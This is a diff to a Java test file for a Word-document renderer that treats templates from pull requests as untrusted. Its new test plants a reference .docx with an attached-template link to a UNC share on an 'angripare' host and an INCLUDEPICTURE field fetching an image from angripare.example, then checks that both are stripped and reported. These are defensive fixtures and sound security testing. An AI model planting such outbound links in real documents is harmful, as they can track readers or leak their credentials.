@@ -1,6 +1,7 @@
 package se.vp.render;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
@@ -11,6 +12,7 @@ import java.net.SocketTimeoutException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.Optional;
 import java.util.concurrent.atomic.AtomicInteger;
 import java.util.stream.Stream;
@@ -25,6 +27,7 @@ import org.junit.jupiter.api.io.TempDir;
 import se.vp.diagnostic.Code;
 import se.vp.diagnostic.VpException;
 import se.vp.render.word.DocxWriter;
+import se.vp.render.word.ReferenceCleanerTest;
 
 /**
  * Templates and the reference document come from pull requests: nothing in them may run code,
@@ -112,8 +115,48 @@ class UntrustedInputTest {
     byte[] original = Files.readAllBytes(reference);
     Files.write(reference, withEntity(original, "word/styles.xml", secret));
     VpException e = assertThrows(VpException.class, project::render);
-    assertEquals("templates/referens.docx: fel: referensdokumentet har en del som inte är giltig WordprocessingML"
+    assertEquals("templates/referens.docx: fel: referensdokumentet kan inte användas: word/styles.xml är inte giltig XML"
         + " (DOCTYPE och entiteter tillåts inte) [VP303]", e.diagnostic().format());
+    project.assertOutputUntouched();
+  }
+
+  @Test
+  void takesOnlyTheLookFromAReferenceDocumentAndSaysWhatItLeftOut() throws Exception {
+    var parts = ReferenceCleanerTest.committed();
+    ReferenceCleanerTest.relate(parts, "word/_rels/document.xml.rels", "rId30", "attachedTemplate",
+        "\\\\angripare\\dela\\mall.dotm", true);
+    ReferenceCleanerTest.edit(parts, "word/footer1.xml", "</w:p>", "<w:fldSimple w:instr=\" INCLUDEPICTURE"
+        + " &quot;https://angripare.example/spår.png&quot; \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
+    Files.write(project.templates.resolve(DocxWriter.REFERENCE), ReferenceCleanerTest.zip(parts));
+
+    RenderResult result = project.render();
+
+    List<String> findings = result.findings().stream().filter(d -> d.code() == Code.VP310).map(d -> d.location() + ": "
+        + d.message()).toList();
+    assertEquals(List.of("templates/referens.docx: referensdokumentet bär en länk ut ur dokumentet, till"
+        + " \\\\angripare\\dela\\mall.dotm (den bifogade dokumentmallen), som vp tog bort"
+        + " ur handlingarna",
+        "templates/referens.docx: referensdokumentet bär fältet INCLUDEPICTURE, som vp tog bort ur handlingarna"),
+        findings);
+    for (String docx : List.of("beslutsunderlag.docx", "sammanstallning.docx")) {
+      try (ZipInputStream zip = new ZipInputStream(Files.newInputStream(project.output.resolve(docx)))) {
+        for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
+          String part = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
+          assertFalse(part.contains("angripare") || part.contains("INCLUDEPICTURE") || part.contains("External"),
+              docx + " " + entry.getName() + ": " + part);
+        }
+      }
+    }
+  }
+
+  @Test
+  void followsNoLinkToAReferenceDocumentOutside() throws IOException {
+    Path reference = project.templates.resolve(DocxWriter.REFERENCE);
+    Files.move(reference, outside.resolve(DocxWriter.REFERENCE));
+    Files.createSymbolicLink(reference, outside.resolve(DocxWriter.REFERENCE));
+    VpException e = assertThrows(VpException.class, project::render);
+    assertEquals("templates/referens.docx: fel: referensdokumentet är en symbolisk länk, och länkar i templates/ följs"
+        + " inte – lägg dokumentet självt i templates/ [VP302]", e.diagnostic().format());
     project.assertOutputUntouched();
   }
 
